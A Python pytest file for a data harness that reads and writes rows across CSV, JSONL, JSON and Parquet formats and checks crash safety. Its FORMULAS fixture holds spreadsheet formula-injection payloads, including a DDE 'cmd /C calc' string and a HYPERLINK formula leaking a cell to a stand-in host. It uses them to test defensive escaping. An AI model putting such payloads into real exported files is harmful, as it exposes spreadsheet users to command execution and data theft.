"""Rows read from files of several kinds, and files of rows that survive a kill."""

from __future__ import annotations

import csv
import io
import json
import os
import sys
from pathlib import Path

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from harness.errors import InvalidInput
from harness.rows import Row, RowFile, read_rows, rows_saved, write_rows

COLUMNS = ["id", "score"]

# --- reading ---------------------------------------------------------------------------------

TABLES = {
    "a.csv": 'id,draft\n1,One\n2,"Two,\nlines"\n',
    "a.tsv": 'id\tdraft\n1\tOne\n2\t"Two,\nlines"\n',
    "semicolons.csv": '\ufeffid;draft\r\n1;One\r\n2;"Two,\nlines"\r\n',
    "quoted.csv": '"id";"draft"\n"1";One\n2;"Two,\nlines"\n',
    "commas in a name.csv": 'id;"draft"; "a, b, c"\n1;One;\n2;"Two,\nlines";\n',
    "named as Excel does.csv": '\ufeffsep=;\r\nid;draft\r\n1;One\r\n2;"Two,\nlines"\r\n',
    "a comma in a name.csv": 'id;draft;a, b\n1;One;\n2;"Two,\nlines";\n',
    "a line in a name.csv": '"a\nb";id;draft\n;1;One\n;2;"Two,\nlines"\n',
    "commas in names.tsv": 'id\tdraft\ta, b, c, d\n1\tOne\t\n2\t"Two,\nlines"\t\n',
    "a.jsonl": '{"id": 1, "draft": "One"}\n\n{"id": 2, "draft": "Two,\\nlines"}\n',
}


@pytest.mark.parametrize("name", TABLES)
def test_a_row_is_the_same_in_every_kind_of_table(tmp_path, name):
    path = tmp_path / name
    path.write_text(TABLES[name], newline="")

    rows = list(read_rows([str(path)]))

    assert [(row.id, row.fields["draft"]) for row in rows] == [("1", "One"), ("2", "Two,\nlines")]
    assert [row.path for row in rows] == [path] * 2


def test_parquet_is_a_table_too(tmp_path):
    pyarrow = pytest.importorskip("pyarrow")
    parquet = pytest.importorskip("pyarrow.parquet")
    path = tmp_path / "a.parquet"
    columns = {"id": ["x", None], "sources": [["a", "b"], None], "draft": ["One", "Two"]}
    parquet.write_table(pyarrow.table(columns), path)
    (tmp_path / "no.parquet").write_text("no table")
    parquet.write_table(pyarrow.table({"a": ["tea"] * 5_000}), tmp_path / "old.parquet")
    data = (tmp_path / "old.parquet").read_bytes()
    (tmp_path / "old.parquet").write_bytes(data[:20] + b"\xff" * 30 + data[50:])

    first, second, wrong = read_rows([str(path), str(tmp_path / "no.parquet")])
    (damaged,) = read_rows([str(tmp_path / "old.parquet")])
    assert "(None)" not in str(damaged)

    assert first.fields == {"id": "x", "sources": ["a", "b"], "draft": "One"}
    assert (second.id, second.fields) == (f"{path}:2", {"draft": "Two"})
    assert (wrong.code, wrong.path.name) == ("row.not-parquet", "no.parquet")


def test_standard_input_is_json_lines(monkeypatch):
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b'{"draft": "One"}\n')))

    (row,) = read_rows(["-"])

    assert (row.id, row.fields) == ("standard input:1", {"draft": "One"})


def test_texts_are_found_by_name_folder_and_pattern_and_name_their_own_files(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for name in ("b.md", "a.md", "in/c.txt", "in/d.png", "in/.hidden/e.md", "f.other"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("text")

    rows = list(read_rows(["*.md", "in", "f.other"]))

    assert [row.id for row in rows] == ["a.md", "b.md", "in/c.txt", "f.other"]
    assert [row.beside(row.fields["path"]) for row in rows] == [Path(row.id) for row in rows]


def test_a_file_that_a_row_names_lies_beside_its_table(tmp_path):
    (tmp_path / "a.jsonl").write_text('{"path": "drafts/1.md"}\n')

    (row,) = read_rows([str(tmp_path / "a.jsonl")])

    assert row.beside(row.fields["path"]) == tmp_path / "drafts/1.md"


@pytest.mark.parametrize(("name", "reason"), [("", "Is a directory"), ("a\0b", "null byte")])
def test_a_path_that_names_no_file_is_the_rows_mistake_and_leaves_none_open(tmp_path, name, reason):
    row = Row(fields={"path": name or "."}, path=tmp_path / "rows.csv", line=2)
    open_before = len([*Path("/dev/fd").iterdir()])
    for _ in range(3):
        with pytest.raises(InvalidInput, match=reason):
            row.draft  # noqa: B018 - it reads the file
    assert len([*Path("/dev/fd").iterdir()]) == open_before


def test_columns_may_have_other_names_and_empty_cells_are_none(tmp_path):
    (tmp_path / "a.csv").write_text("answer,task\nOne,\n,\n")

    (row,) = read_rows([str(tmp_path / "a.csv")], columns={"draft": "answer"})

    assert row.fields == {"draft": "One"}


@pytest.mark.parametrize("number", [*map(str, (2**64 - 1, -(2**63), 2**64)), "9" * 300])
def test_no_digit_of_a_long_number_is_lost(tmp_path, number):
    (tmp_path / "a.json").write_text(f'[{{"a": [{number}]}}]')
    (tmp_path / "a.jsonl").write_text(f'{{"a": [{number}]}}')
    for row in read_rows([str(tmp_path / "*.json*")]):
        assert [*map(str, row.fields["a"])] == [number]
        assert orjson.dumps(dict(row.fields))


def test_a_list_of_objects_is_a_table_and_another_json_a_text(tmp_path):
    (tmp_path / "a.json").write_text('[{"a": 1}, {"a": {"b": 2}}]')
    (tmp_path / "b.json").write_text('[{"a": 1}, 2]')

    rows = [row for name in "ab" for row in read_rows([str(tmp_path / f"{name}.json")])]

    assert [(row.line, dict(row.fields)) for row in rows if isinstance(row, Row)] == [
        *((1, {"a": 1}), (2, {"a.b": 2})),
        (None, {"path": str(tmp_path / "b.json")}),
    ]


def test_an_object_without_a_value_is_a_row_and_an_empty_line_of_a_spreadsheet_is_none(tmp_path):
    (tmp_path / "a.jsonl").write_text('{"draft": ""}\n{"draft": null}\n\n{}\n')
    (tmp_path / "a.csv").write_text("draft\n\n,\n")

    rows = read_rows([str(tmp_path / "a.jsonl"), str(tmp_path / "a.csv")], empty={"draft"})

    assert [(row.line, dict(row.fields)) for row in rows if isinstance(row, Row)] == [
        *((1, {"draft": ""}), (2, {"draft": None}), (4, {})),
    ]


def test_a_column_that_gets_a_name_takes_it_from_another(tmp_path):
    (tmp_path / "a.jsonl").write_text('{"draft": "Old", "answer": {"text": "New"}, "n": {}}\n')

    (row,) = read_rows([str(tmp_path / "a.jsonl")], columns={"draft": "answer.text"})

    assert row.fields == {"draft": "New"}


@pytest.mark.parametrize(
    ("columns", "fields"),
    [
        ({"ticket": "inputs"}, {"ticket": {"subject": "Hi"}}),
        ({"subject": "inputs.subject"}, {"subject": "Hi"}),
        (
            {"ticket": "inputs", "subject": "inputs.subject"},
            {"ticket": {"subject": "Hi"}, "subject": "Hi"},
        ),
    ],
)
def test_a_column_may_name_an_object_its_field_or_both(tmp_path, columns, fields):
    path = tmp_path / "a.jsonl"
    path.write_text('{"inputs": {"subject": "Hi"}}')
    (row,) = read_rows([str(path)], columns=columns)
    assert dict(row.fields) == fields


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        pytest.param("a.jsonl", '{"a": 1}\n{"a": \n{"a": 3}\n', ("row.not-json", 2, 2), id="JSON"),
        pytest.param("a.jsonl", '{"a": 1}\n{"a": [NaN]}\n', ("row.nan", 2, 1), id="NaN"),
        pytest.param("a.jsonl", '{"a": -Infinity}\n', ("row.nan", 1, 0), id="infinite"),
        pytest.param("a.jsonl", '{"a": "NaN, b}\n', ("row.not-json", 1, 0), id="no number"),
        pytest.param("a.jsonl", '[1]\n{"a": 3}\n', ("row.not-object", 1, 1), id="a list"),
        pytest.param("a.jsonl", '{"a": {"b": 1, "b": 2}}', ("row.field-twice", 1, 0), id="twice"),
        pytest.param("a.jsonl", '{"a": "\\ud800"}', ("row.not-json", 1, 0), id="half a pair"),
        pytest.param("a.jsonl", "[" * 9999, ("row.not-json", 1, 0), id="depth"),
        pytest.param("a.csv", "a,b\n1,2\n1,2,3\n4,5\n", ("row.cells", 3, 2), id="cells"),
        pytest.param("a.csv", 'a,b\n1,2\n"1,2\n4,5\n', ("row.not-csv", 3, 1), id="a quote"),
        pytest.param("a.csv", "a,b\n1\n\n3,4\n", ("row.cells", 2, 1), id="too few"),
        pytest.param("a.csv", "sep=,\na,b\n1\n3,4\n", ("row.cells", 3, 1), id="a separator"),
        pytest.param("a.csv", "a,a\n1,2\n", ("row.columns-alike", 1, 1), id="columns alike"),
        pytest.param("a.csv", "a,\0\n", ("file.binary", None, 0), id="no text"),
    ],
)
def test_what_is_no_row_is_told_by_its_line_and_the_others_are_read(tmp_path, name, text, expected):
    code, line, others = expected
    (tmp_path / name).write_text(text)

    found = list(read_rows([str(tmp_path / name)]))

    (wrong,) = (one for one in found if isinstance(one, InvalidInput))
    assert (wrong.code, wrong.path, wrong.line) == (code, tmp_path / name, line)
    assert sum(isinstance(one, Row) for one in found) == others


@pytest.mark.parametrize("ending", ["csv", "jsonl"])
def test_a_table_is_read_up_to_what_is_no_text_in_its_midst(tmp_path, ending):
    path = tmp_path / f"a.{ending}"
    line = "1\n" if ending == "csv" else '{"a": "1"}\n'
    path.write_bytes(("a\n" * (ending == "csv") + line * 9000).encode() + b"\xff\n")

    *rows, wrong = read_rows([str(path)])

    assert (wrong.code, wrong.path) == ("file.not-utf8", path)
    assert 8000 < len(rows) <= 9000
    assert {row.fields["a"] for row in rows} == {"1"}


@given(text=st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")))
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_long_texts_are_as_they_were(tmp_path, text):
    path = tmp_path / "a.jsonl"
    long = f"{text}." * 3_000
    path.write_text(json.dumps({"id": "a", "draft": long, "other": text}))

    (row,) = read_rows([str(path)])

    assert (row.id, row.draft) == ("a", long)
    assert dict(row.fields) == {"id": "a", "draft": long, **({"other": text} if text else {})}


@pytest.mark.parametrize(
    ("name", "text", "code"),
    [
        ("no.csv", None, "file.missing"),
        (".", None, "file.none-in-directory"),
        ("a.json", '[{"a": 1, "a": 2}]', "row.field-twice"),
        ("a.json", ' [\n {"a": 1},\n', "row.not-json"),
        ("a.json", '[{"a": "\\ud800"}]', "row.not-json"),
        ("a.json", '[{"a": ' + "[" * 9999, "row.not-json"),
    ],
)
def test_what_cannot_be_read_at_all_is_refused_at_once(tmp_path, monkeypatch, name, text, code):
    monkeypatch.chdir(tmp_path)
    if text is not None:
        (tmp_path / name).write_text(text)

    with pytest.raises(InvalidInput) as caught:
        list(read_rows([name]))
    assert caught.value.code == code


# --- files that grow -------------------------------------------------------------------------

ROWS = [{"id": "a", "score": 1}, {"id": 'b, "c"\nd', "score": [1, 2.5]}, {"id": "", "score": None}]


@given(cut=st.integers(0, 120))
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_wherever_a_kill_cuts_the_file_the_whole_rows_are_there_and_the_next_follows(tmp_path, cut):
    path = tmp_path / "rows.jsonl"
    path.unlink(missing_ok=True)
    with RowFile(path, columns=COLUMNS) as file:
        for row in ROWS:
            file.append(row)
    ends = [n + 1 for n, byte in enumerate(path.read_bytes()) if byte == ord("\n")]
    os.truncate(path, min(cut, ends[-1]))
    # It is seen that only the line's end is missing.
    whole = sum(end - 1 <= cut for end in ends)

    with RowFile(path, columns=COLUMNS) as file:
        assert len(file.rows) == whole
        file.append({"id": "new", "score": 7})
    with RowFile(path, columns=COLUMNS) as file:
        *before, last = file.rows

    assert len(before) == whole
    assert last == {"id": "new", "score": 7}


FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+SUM(1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
    '- HYPERLINK ("http://h/?"&A1)', "\uff1d1+1", "'=1", "-Sheet2!$A$1",
]  # fmt: skip
TEXTS = [
    "- item", "- an item (see below), and 3 - 2", "-1.5", "+49 30 1234", "+1", "@owl said so!",
    "'tis", "- Stop! Then go.", "'- item", "--- a line", "a = b",
]  # fmt: skip


@pytest.mark.parametrize(
    ("cell", "is_formula"), [*((one, True) for one in FORMULAS), *((one, False) for one in TEXTS)]
)
def test_only_a_formula_has_an_apostrophe_in_a_csv_file_and_is_read_back_without(
    tmp_path, cell, is_formula
):
    path = tmp_path / "rows.csv"
    with RowFile(path, columns=["text"]) as file:
        file.append({"text": cell})
    _, (written,) = csv.reader(path.read_text().splitlines())
    assert [row["text"] for row in rows_saved(path)] == [cell]
    assert written == (f"'{cell}" if is_formula else cell)


def test_what_is_no_text_is_json_in_a_csv_file(tmp_path):
    with RowFile(tmp_path / "rows.csv", columns=COLUMNS) as file:
        file.append(ROWS[1])
    (row,) = rows_saved(tmp_path / "rows.csv")
    assert json.loads(row["score"]) == [1, 2.5]


@pytest.mark.parametrize(
    "text",
    [
        "# T\n\nTwo  blanks,\ta tab.\n",
        "a\r\nb",
        "a\rb",
        ' "c"\nd ',
        "\t=1+1",
        "\n-1+SUM(A1)",
        "'=1",
    ],
    ids=repr,
)
def test_a_text_comes_back_from_a_csv_file_as_it_was(tmp_path, text):
    path = tmp_path / "rows.csv"
    with RowFile(path, columns=["text", "next"]) as file:
        file.append({"text": text, "next": "n"})
        file.append({"text": "second", "next": "m"})
    assert [row["text"] for row in rows_saved(path)] == [text, "second"]
    assert [row.fields["text"] for row in read_rows([str(path)])] == [text, "second"]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.jsonl", '{"id": 1, "draft": "One"}\n'),
        ("a.jsonl", '{"id": 1, "draft": "One"}'),
        ("a.jsonl", "id,score\n1,2\n"),
        ("a.jsonl", "notes"),
        ("a.txt", ""),
    ],
)
def test_a_file_of_something_else_is_refused_and_stays_as_it_is(tmp_path, name, content):
    (tmp_path / name).write_text(content)

    with pytest.raises(InvalidInput) as caught:
        RowFile(tmp_path / name, columns=COLUMNS)

    assert caught.value.code.startswith("row.output-")
    assert (tmp_path / name).read_text() == content


def test_a_damaged_line_among_others_is_told_and_costs_no_other(tmp_path):
    path = tmp_path / "rows.jsonl"
    with RowFile(path, columns=COLUMNS) as file:
        for row in ROWS:
            file.append(row)
    lines = path.read_text().splitlines(keepends=True)
    path.write_text(lines[0] + '{"id": 2, "sco\n' + "".join(lines[1:]))

    with pytest.raises(InvalidInput) as caught:
        RowFile(path, columns=COLUMNS)
    assert (caught.value.code, caught.value.line) == ("row.output-damaged", 2)

    path.write_text("".join(lines))
    with RowFile(path, columns=COLUMNS) as file:
        assert len(file.rows) == len(ROWS)


def test_only_one_command_writes_it(tmp_path):
    path = tmp_path / "rows.jsonl"
    with RowFile(path, columns=COLUMNS), pytest.raises(InvalidInput) as caught:
        RowFile(path, columns=COLUMNS)
    assert caught.value.code == "row.output-locked"


def test_rows_with_other_columns_say_which(tmp_path):
    path = tmp_path / "rows.jsonl"
    with RowFile(path, columns=COLUMNS) as file:
        file.append(ROWS[0])

    with pytest.raises(InvalidInput, match="score\\.clear") as caught:
        RowFile(path, columns=[*COLUMNS, "score.clear"])

    assert caught.value.code == "row.output-other-columns"


def test_a_full_disk_is_told_with_the_file(tmp_path):
    with RowFile(tmp_path / "rows.jsonl", columns=COLUMNS) as file:
        full = os.open("/dev/full", os.O_WRONLY)
        os.dup2(full, file._file.fileno())
        os.close(full)
        with pytest.raises(InvalidInput) as caught:
            file.append(ROWS[0])

    assert (caught.value.code, caught.value.path) == ("file.unwritable", tmp_path / "rows.jsonl")


def test_the_place_of_a_file_whose_name_is_no_text_can_be_written_down():
    row = Row(fields={}, path=Path(os.fsdecode(b"caf\xe9.md")))

    assert row.id == "caf?.md"


# --- writing at once -------------------------------------------------------------------------


@pytest.mark.parametrize("ending", ["jsonl", "parquet"])
def test_many_rows_are_read_back_as_they_were_written(tmp_path, ending):
    pytest.importorskip("pyarrow")
    path = tmp_path / f"a.{ending}"
    rows = [
        {"id": f"{n}", "score": n / 2, "said": [{"role": "user", "content": f"Ä{n}"}]}
        for n in range(2_500)
    ]

    write_rows(path, iter(rows))

    assert [row.fields for row in read_rows([str(path)])] == rows


@pytest.mark.parametrize("ending", ["jsonl", "parquet"])
def test_rows_that_end_in_an_error_leave_the_file_that_was_there(tmp_path, ending):
    pytest.importorskip("pyarrow")
    path = tmp_path / f"a.{ending}"
    path.write_text("before")

    def rows():
        yield from ({"id": f"{n}"} for n in range(2_500))
        raise InvalidInput("no more", code="test.no-more")

    with pytest.raises(InvalidInput, match="no more"):
        write_rows(path, rows())
    assert [(one.name, one.read_text()) for one in tmp_path.iterdir()] == [(path.name, "before")]


def test_there_is_no_file_without_rows(tmp_path):
    write_rows(tmp_path / "a.jsonl", [])
    assert not list(tmp_path.iterdir())
